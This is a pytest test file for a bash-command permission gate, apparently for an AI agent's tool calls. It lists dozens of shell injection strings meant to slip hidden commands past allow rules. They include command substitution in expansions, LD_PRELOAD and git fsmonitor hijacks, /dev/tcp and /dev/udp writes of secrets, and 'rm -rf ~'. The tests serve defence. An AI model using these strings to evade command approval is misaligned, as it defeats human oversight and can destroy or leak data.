"""Syntax that bash executes and a reader can miss: none of it is allowed by an allow rule for the
harmless-looking part, a deny rule still sees the command inside, and risk looks inside too."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.permissions.gate import CallView, Gate
from app.permissions.policy import CallFacts, Policy, rules_from_table
from app.permissions.risk import assess_command

ALLOW = ["bash(echo *)", "bash(git status)", "bash(ls *)"]
ATTACKS = [
    "echo ${x:-$(rm x)}",
    "echo ${a[$(touch p)]}",
    "echo $(( $(rm x) ))",
    "echo $'\\'' ; rm x #'",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch p' git status",
    "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch p' git status",
    "echo ${x:=$(touch p)} ${#a[$(touch p)]} ${x/$(touch p)/y}",
    "echo \"$(touch p)\"", "echo `touch p`", "ls <(touch p)", "echo >(touch p)",
    "echo x; { touch p; }", "(touch p)", "if true; then touch p; fi", "for i in 1; do touch p; done",
    "f() { touch p; }; f", "coproc touch p", "eval 'touch p'", "eval $X", "echo a && touch p",
    "cat <<EOF\n$(touch p)\nEOF", "echo $[ $(touch p) ]", "[[ -n $(touch p) ]]", "x=$(touch p) ls",
    "PAGER='touch p' git status", "LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x echo hi", "PATH=.:$PATH ls",
    "echo $\"$(touch p)\"", "$(echo touch) p", "echo hi | touch p", "ls; touch p #", "echo x\ntouch p",
    "bash -c 'echo a; touch p'", "sudo -E touch p", "time touch p", "echo ${!x} ${x@P}",
    "IFS=/ ls", "SHELLOPTS=xtrace PS4='$(touch p)' git status", "echo $( (touch p) )",
    "echo <<EOF\n`touch p`\nEOF", "echo ${x:-`touch p`}", "echo <<EOF\n${x:-`touch p`}\nEOF",
    "echo `echo \\`touch p\\``", "echo a \\\n; touch p", "find . -exec touch p \\;", "trap 'touch p' EXIT",
    "echo <<-EOF\n\tEOF\ntouch p", "echo a # x \\\ntouch p", "echo \"${x:-'$(touch p)'}\"",
    "test -v 'a[$(touch p)]'", "/???/t???h p", "{touch,p}", "((a[$(touch p)]))",
    "echo a\r#; touch p", "echo a\v#; touch p", "echo a\f#; touch p",
    "echo secret > /dev/tcp/127.0.0.1/9", "ls < /dev/udp/127.0.0.1/9",
]


def policy(workspace: Path, **table) -> Policy:
    rules, problems = rules_from_table(table, scope="user", path=Path("config.toml"), text="")
    return Policy(rules, problems, workspace)


@pytest.mark.parametrize("command", ATTACKS)
def test_an_allow_rule_for_the_harmless_part_does_not_allow_the_attack(tmp_path, command):
    verdict = policy(tmp_path, allow=ALLOW).decide(CallFacts("bash", command=command))
    assert verdict.decision != "allow", verdict.why


@pytest.mark.parametrize("command", [a for a in ATTACKS if "rm x" in a])
def test_a_deny_rule_sees_the_command_inside(tmp_path, command):
    verdict = policy(tmp_path, allow=ALLOW, deny=["bash(rm *)"]).decide(CallFacts("bash", command=command))
    assert verdict.decision == "deny", verdict.why


# where the forbidden command is only a value (an env var, a quoted subscript, a glob or brace name):
# a deny rule cannot see it, and the line is asked about instead
ONLY_ASKED = ("GIT_CONFIG", "PAGER", "PS4", "test -v", "/???/", "{touch,p}", "\r", "\v", "\f")


@pytest.mark.parametrize("command", [a for a in ATTACKS if "touch p" in a and "$X" not in a and "$(echo touch)" not in a])
def test_a_deny_rule_for_touch_sees_it_everywhere(tmp_path, command):
    verdict = policy(tmp_path, allow=ALLOW, deny=["bash(touch *)"]).decide(CallFacts("bash", command=command))
    assert verdict.decision in ("deny", None), verdict.why
    if not any(marker in command for marker in ONLY_ASKED):
        assert verdict.decision == "deny", verdict.why


def test_the_reason_reaches_the_gates_why(tmp_path):
    gate = Gate(policy(tmp_path, allow=ALLOW), "ask")
    verdict = gate.decide(CallView("bash", {"command": "echo ${x:-$(date)}"}, primary="command"))
    assert verdict.outcome == "ask"
    assert "cannot be allowed by a rule" in verdict.why and "${x:-$(date)}" in verdict.why
    git = gate.decide(CallView("bash", {"command": "GIT_PAGER=x git status"}, primary="command"))
    assert git.outcome == "ask" and "GIT_PAGER" in git.why


def test_unattended_auto_mode_does_not_run_a_hidden_delete(tmp_path):
    gate = Gate(policy(tmp_path), "auto")
    verdict = gate.decide(CallView("bash", {"command": "echo ${x:-$(rm -rf ~)}"}, primary="command"))
    assert verdict.outcome != "allow"


@pytest.mark.parametrize("command, at_least", [
    ("echo ${x:-$(rm -rf ~)}", "critical"), ("echo $(( $(rm -rf build) ))", "high"),
    ("echo $(date)", "medium"), ("echo hi > $HOME/.bashrc", "high"), ("echo x > ~+/../x", "high"),
    ("GIT_CONFIG_COUNT=1 git status", "medium"), ("cat < /dev/tcp/10.0.0.1/80", "high"),
    ("echo $KEY > /dev/udp/10.0.0.1/53", "high"),
])
def test_risk_looks_inside(command, at_least):
    risk = assess_command(command, tmp := Path("/tmp/whimbrel-risk-ws"))
    assert risk.at_least(at_least), (risk, tmp)


@pytest.mark.parametrize("command", ["echo hi", "git status", "ls -la src", "echo $HOME", "make test &>/dev/null"])
def test_plain_commands_stay_allowed(tmp_path, command):
    verdict = policy(tmp_path, allow=ALLOW + ["bash(make test)"]).decide(CallFacts("bash", command=command))
    assert verdict.decision == "allow", verdict.why
